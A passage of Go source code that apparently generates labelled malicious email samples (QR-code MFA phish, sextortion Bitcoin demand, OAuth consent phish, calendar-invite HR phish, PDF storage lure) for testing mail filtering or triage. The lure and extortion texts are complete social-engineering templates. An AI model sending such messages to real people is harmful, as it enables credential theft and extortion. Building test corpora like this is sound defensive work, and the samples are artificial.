			HTML: html(`<p><b>Your Microsoft Authenticator token expires today.</b></p>
<p>Scan the QR code below with your phone camera to re-enroll and keep access to Outlook and Teams.</p>
<p><img src="cid:qr-8kd2@mfa-c0ntoso.example" width="148" height="148" alt=""></p>
<p style="font-size:11px;color:#777">Security notification for contoso.example users</p>`),
			Related: []Att{{Name: "image001.png", CType: "image/png", Data: qrV3L("https://mfa-reenroll.c0ntoso-secure.example/q/8KD2", 4), Inline: true, CID: "qr-8kd2@mfa-c0ntoso.example"}},
		},
		{
			File: "mal-23-sextortion-bitcoin.eml", Verdict: "malicious", Category: "extortion", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(pradeep),
			Desc:     "Sextortion: From spoofs the recipient's own address (SPF fail, DMARC fail action=quarantine), claims device hack, demands $1450 in Bitcoin to " + btc + " within 48 hours",
			FromName: "", FromAddr: "pradeep.gupta@contoso.example", Subject: "Your account is hacked. Read this carefully",
			Date: d(3, 23, 3, 14, "UTC"), IP: "203.0.113.230", Helo: "vps-3381.hostingnode.example", Country: "KZ", PTR: "InfoNoRecords",
			SPF: "fail", DKIM: "none", DMARC: "fail", DMARCAction: "quarantine", SCL: 9, CAT: "SPOOF",
			Text: fmt.Sprintf("Hello!\n\nAs you may have noticed, I sent you this email from your own account. I have had access to your device for several months.\n\nI recorded you through your webcam and I have copies of your contacts and messages. If you want me to delete everything, transfer $1450 in Bitcoin to this address:\n\n%s\n\nYou have 48 hours from the moment you open this email. I will know when you read it. If I do not receive the payment, the recording goes to all your contacts.\n\nDo not reply, and do not go to the police: I will know.", btc),
		},
		{
			File: "mal-24-oauth-consent.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(adele, nestor),
			Desc:     "OAuth consent phishing: 'DocView' app asks to open a document via an authorize URL (login.microsoftonline.example stands in for the real sign-in host) requesting Mail.ReadWrite, Files.ReadWrite.All and offline_access with redirect to docview-cloudapp.example",
			FromName: "DocView for Microsoft 365", FromAddr: "notifications@docview-cloudapp.example", Subject: "Adele Vance shared \"Board deck March 2026\" with you via DocView",
			Date: d(3, 24, 14, 9, "UTC"), IP: "198.51.100.120", Country: "US",
			SPF: "pass", DKIM: "pass", DMARC: "pass", SCL: 5, CAT: "PHSH",
			Text: "Adele Vance shared \"Board deck March 2026\" with you.\n\nOpen with DocView: https://login.microsoftonline.example/common/oauth2/v2.0/authorize?client_id=5e1f0c2a-7b44-4d0e-9a3f-2c6d8e1b7f90&response_type=code&redirect_uri=https%3A%2F%2Fdocview-cloudapp.example%2Fauth%2Fcallback&scope=Mail.ReadWrite%20Files.ReadWrite.All%20offline_access&prompt=consent\n",
			HTML: html(`<p>Adele Vance shared <b>"Board deck March 2026"</b> with you.</p>
<p><a href="https://login.microsoftonline.example/common/oauth2/v2.0/authorize?client_id=5e1f0c2a-7b44-4d0e-9a3f-2c6d8e1b7f90&amp;response_type=code&amp;redirect_uri=https%3A%2F%2Fdocview-cloudapp.example%2Fauth%2Fcallback&amp;scope=Mail.ReadWrite%20Files.ReadWrite.All%20offline_access&amp;prompt=consent" style="background:#0078d4;color:#fff;padding:8px 18px;text-decoration:none">Open with DocView</a></p>
<p style="font-size:11px;color:#777">DocView needs permission to display documents from your mailbox.</p>`),
		},
		{
			File: "mal-25-calendar-invite-phish.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(megan, leegu, johanna),
			Desc:     "Calendar-invite phishing: METHOD:REQUEST .ics from lookalike contoso-hrteam.example; the event description asks to 'acknowledge' a salary adjustment at contoso-hr-portal.test",
			FromName: "Contoso HR Team", FromAddr: "hr-events@contoso-hrteam.example", Subject: "2026 Compensation Review - acknowledgement required",
			Date: d(3, 25, 9, 0, "UTC"), IP: "203.0.113.166", Country: "NG",
			SPF: "pass", DKIM: "none", DMARC: "none", CompAuth: "softpass reason=201", SCL: 6, CAT: "PHSH",
			Text: "Contoso HR Team has invited you to: 2026 Compensation Review\n\nBefore the meeting, review and acknowledge your 2026 compensation adjustment:\nhttps://contoso-hr-portal.test/acknowledge?id=CR2026-5521\n\nSign in with your Contoso account.",
			Calendar: ics("REQUEST", "2026 Compensation Review", "hr-events@contoso-hrteam.example", "Contoso HR Team", []string{megan, leegu, johanna},
				"Before the meeting review and acknowledge your 2026 compensation adjustment: https://contoso-hr-portal.test/acknowledge?id=CR2026-5521 - sign in with your Contoso account.",
				"https://contoso-hr-portal.test/acknowledge?id=CR2026-5521", "20260327T150000Z", "20260327T153000Z", "cr2026-5521@contoso-hrteam.example"),
			Atts: []Att{{Name: "invite.ics", CType: "text/calendar", Data: []byte(strings.ReplaceAll(ics("REQUEST", "2026 Compensation Review", "hr-events@contoso-hrteam.example", "Contoso HR Team", []string{megan, leegu, johanna},
				"Before the meeting review and acknowledge your 2026 compensation adjustment: https://contoso-hr-portal.test/acknowledge?id=CR2026-5521 - sign in with your Contoso account.",
				"https://contoso-hr-portal.test/acknowledge?id=CR2026-5521", "20260327T150000Z", "20260327T153000Z", "cr2026-5521@contoso-hrteam.example"), "\n", "\r\n"))}},
		},
		{
			File: "mal-26-pdf-lure-mailbox-quota.eml", Verdict: "malicious", Category: "credential_phishing", QType: "Phish", Policy: "HostedContentFilterPolicy",
			Rcpt:     rc(lynne, grady),
			Desc:     "PDF lure: 'mailbox storage full' notice as a PDF whose link annotation points to mailbox-quota-upgrade.example/owa/upgrade; the email body itself has no link",
			FromName: "Mailbox Administrator", FromAddr: "postmaster@mailbox-quota-upgrade.example", Subject: "Mailbox storage 99% full - incoming mail paused",
			Date: d(3, 26, 5, 48, "UTC"), IP: "203.0.113.19", Country: "FR",
			SPF: "softfail", DKIM: "none", DMARC: "none", SCL: 8, CAT: "PHSH",
			Text: "Your mailbox has reached 99% of its storage limit and incoming messages are paused.\nSee the attached notice to restore delivery.\n\nMailbox Administrator",
			Atts: []Att{{Name: "Mailbox_Storage_Notice.pdf", CType: "application/pdf", Data: mkPDF("Mailbox storage notice", []string{
				"Mailbox storage notice", "", "Your mailbox has used 49.6 GB of 50 GB.", "Incoming messages are paused.", "", "CLICK HERE TO UPGRADE STORAGE FOR FREE", "", "Unverified mailboxes are removed after 24 hours."}, "https://mailbox-quota-upgrade.example/owa/upgrade?mbx=contoso")}},
		},
	}
}

func ics(method, summary, org, orgName string, attendees []string, desc, url, start, end, uid string) string {
	var b strings.Builder
	b.WriteString("BEGIN:VCALENDAR\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\nVERSION:2.0\nMETHOD:" + method + "\n")
	b.WriteString("BEGIN:VEVENT\n")
	b.WriteString("ORGANIZER;CN=\"" + orgName + "\":mailto:" + org + "\n")
	for _, a := range attendees {
		b.WriteString("ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:" + a + "\n")
	}
	b.WriteString(foldICS("DESCRIPTION;LANGUAGE=en-US:"+desc) + "\n")
	b.WriteString("UID:" + uid + "\nSUMMARY;LANGUAGE=en-US:" + summary + "\n")
	b.WriteString("DTSTART:" + start + "\nDTEND:" + end + "\nDTSTAMP:20260311T090000Z\n")
	if url != "" {
		b.WriteString(foldICS("URL:"+url) + "\n")
		b.WriteString(foldICS("LOCATION:"+url) + "\n")
	}
	b.WriteString("STATUS:CONFIRMED\nSEQUENCE:0\nEND:VEVENT\nEND:VCALENDAR\n")
	return b.String()
}

func foldICS(s string) string {
	var out []string
	for len(s) > 74 {
		out = append(out, s[:74])
		s = " " + s[74:]
	}
	out = append(out, s)
	return strings.Join(out, "\n")
}
